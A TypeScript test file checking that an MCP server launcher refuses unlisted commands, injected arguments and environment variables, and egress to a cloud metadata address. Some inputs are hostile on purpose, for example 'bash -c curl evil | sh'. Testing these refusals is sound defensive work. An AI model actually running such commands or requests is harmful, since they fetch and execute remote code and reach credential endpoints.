import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { matchLauncher, type Launcher } from "@/lib/mcp/launchers";
import { resolveInspectTarget } from "@/lib/mcp/node/resolve-target";
import { DEMO_KNOWLEDGE_MCP_ARGS } from "@/lib/review/demo";

const ROOT = path.resolve(import.meta.dirname, "../..");
const env = (extra: Record<string, string> = {}) => ({ RELAY_REVIEW_ROOT: ROOT, RELAY_REVIEW_DATA: mkdtempSync(path.join(tmpdir(), "rr-data-")), ...extra });
const stdio = (command: string, args: string[], envNames: string[] = []) => ({ transport: { kind: "stdio" as const, command, args, envNames } });

describe("launcher allowlist", () => {
  const launchers: Launcher[] = [{ id: "a", label: "", command: "node", args: ["x.js"], envNames: ["TOKEN"], fixture: false }];
  test("matches command and args exactly", () => {
    expect(matchLauncher(launchers, { command: "node", args: ["x.js"] }).ok).toBe(true);
    expect(matchLauncher(launchers, { command: "node", args: ["x.js", "--evil"] }).ok).toBe(false);
    expect(matchLauncher(launchers, { command: "bash", args: ["-c", "curl evil | sh"] }).ok).toBe(false);
    expect(matchLauncher(launchers, { command: "node", args: ["x.js"], envNames: ["NODE_OPTIONS"] }).ok).toBe(false);
  });

  test("the demo server resolves: node → this Node, script path against the repo root", async () => {
    const r = await resolveInspectTarget(stdio("node", DEMO_KNOWLEDGE_MCP_ARGS), env());
    expect(r).toEqual({
      ok: true,
      target: { kind: "stdio", command: process.execPath, args: ["--import", "tsx", path.join(ROOT, "servers/knowledge-mcp.ts"), "stdio"],
        env: {},
        cwd: ROOT,
        // The allowlist entry's sandbox settings (defaults: no extra paths, no egress, default limits).
        launcher: { id: "knowledge-mcp", sandbox: { limits: {}, read: [], egress: [] } },
      },
    });
  });

  test("an unlisted command is refused", async () => {
    const r = await resolveInspectTarget(stdio("bash", ["-c", "id"]), env());
    expect(r.ok ? null : [r.error.code, r.error.message]).toEqual(["refused", expect.stringMatching(/not in the workbench's launcher allowlist/)]);
  });

  test("hostile fixtures run only with RELAY_REVIEW_ALLOW_FIXTURES=1", async () => {
    const t = stdio("node", ["--import", "tsx", "tests/fixtures/servers/hostile.ts", "hang"]);
    expect((await resolveInspectTarget(t, env())).ok).toBe(false);
    expect((await resolveInspectTarget(t, env({ RELAY_REVIEW_ALLOW_FIXTURES: "1" }))).ok).toBe(true);
  });

  test("env values are resolved by name from the workbench's environment, and must be allowed and set", async () => {
    const t = stdio("node", DEMO_KNOWLEDGE_MCP_ARGS, ["KNOWLEDGE_MCP_VARIANT"]);
    const missing = await resolveInspectTarget(t, env());
    expect(missing.ok ? "" : missing.error.message).toMatch(/KNOWLEDGE_MCP_VARIANT is not set/);
    const ok = await resolveInspectTarget(t, env({ KNOWLEDGE_MCP_VARIANT: "4.2" }));
    expect(ok.ok && ok.target.kind === "stdio" ? ok.target.env : null).toEqual({ KNOWLEDGE_MCP_VARIANT: "4.2" });
    expect((await resolveInspectTarget(stdio("node", DEMO_KNOWLEDGE_MCP_ARGS, ["HOME"]), env())).ok).toBe(false);
  });

  test("the owner's $RELAY_REVIEW_DATA/launchers.json adds entries; a malformed one is a refusal value", async () => {
    const e = env();
    writeFileSync(path.join(e.RELAY_REVIEW_DATA, "launchers.json"), JSON.stringify({ version: 1, launchers: [{ id: "mine", command: "/usr/bin/my-mcp", args: ["--stdio"] }] }));
    expect((await resolveInspectTarget(stdio("/usr/bin/my-mcp", ["--stdio"]), e)).ok).toBe(true);
    writeFileSync(path.join(e.RELAY_REVIEW_DATA, "launchers.json"), "{ nope");
    expect(await resolveInspectTarget(stdio("/usr/bin/my-mcp", ["--stdio"]), e)).toMatchObject({ ok: false, error: { code: "refused" } });
  });

  test("HTTP targets pass the egress allowlist; header values come from env by name", async () => {
    const http = (url: string, headerEnv: Record<string, string> = {}) => ({ transport: { kind: "http" as const, url, headerEnv } });
    const metadata = await resolveInspectTarget(http("http://169.254.169.254/mcp"), env());
    expect(metadata.ok ? "" : `${metadata.error.code}: ${metadata.error.message}`).toMatch(/^refused: egress refused/);
    const r = await resolveInspectTarget(http("http://127.0.0.1:9/mcp", { Authorization: "MCP_TOKEN" }), env({ MCP_TOKEN: "Bearer t" }));
    expect(r.ok && r.target.kind === "http" ? r.target.headers : null).toEqual({ Authorization: "Bearer t" });
    expect((await resolveInspectTarget({ transport: { kind: "manual" } }, env())).ok).toBe(false);
  });
});
